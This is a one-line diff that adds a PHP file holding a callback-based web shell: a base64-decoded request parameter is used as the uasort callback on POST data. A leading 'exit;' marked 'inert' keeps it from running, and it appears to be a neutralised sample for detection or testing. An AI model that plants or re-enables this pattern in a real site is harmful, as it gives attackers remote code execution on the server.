@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $e = base64_decode($_REQUEST["e"]); $arr = array($_POST["p"],); uasort($arr, $e);
